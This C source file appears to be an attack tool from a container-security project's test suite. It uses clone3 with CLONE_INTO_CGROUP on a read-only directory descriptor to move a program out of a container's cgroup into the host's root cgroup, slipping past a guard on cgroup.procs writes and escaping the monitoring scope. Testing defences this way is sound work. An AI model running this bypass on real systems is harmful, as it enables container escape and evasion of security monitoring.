// SPDX-License-Identifier: GPL-2.0
/*
 * Leave the container's cgroup without writing any cgroup file, then run
 * a program.
 *
 *   attack_cgmove CGROUP_DIR PROGRAM [ARG]...
 *
 * The kernel-knobs guard denies write-opens of cgroup.procs outside the
 * container's cgroup, but clone3(CLONE_INTO_CGROUP) moves the child into
 * the cgroup of a directory descriptor opened read-only, with no open
 * for write at all. From a container that shares the host's cgroup
 * namespace (Docker's --privileged on cgroup v1 hosts, --cgroupns=host),
 * CGROUP_DIR /sys/fs/cgroup is the host's root cgroup, which no scope
 * selects, so the child runs PROGRAM as a host process for dsec.
 *
 * Steps: "open", "clone3", "execvp". The exit status is PROGRAM's when
 * the steps succeed.
 */
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tool.h"

const char *tool_name = "attack_cgmove";

int main(int argc, char **argv)
{
	struct clone_args args;
	int fd, status;
	long pid;

	if (argc < 3)
		tool_usage("usage: attack_cgmove CGROUP_DIR PROGRAM [ARG]...");
	fd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		tool_step_failed(errno, "open %s", argv[1]);

	memset(&args, 0, sizeof(args));
	args.flags = CLONE_INTO_CGROUP;
	args.exit_signal = SIGCHLD;
	args.cgroup = (uint64_t)fd;
	fflush(stdout);
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		tool_step_failed(errno, "clone3");
	if (pid == 0) {
		execvp(argv[2], argv + 2);
		tool_step_failed(errno, "execvp %s", argv[2]);
	}
	if (waitpid(pid, &status, 0) < 0)
		tool_usage("waitpid: %s", strerror(errno));
	return WIFEXITED(status) ? WEXITSTATUS(status) : TOOL_USAGE;
}
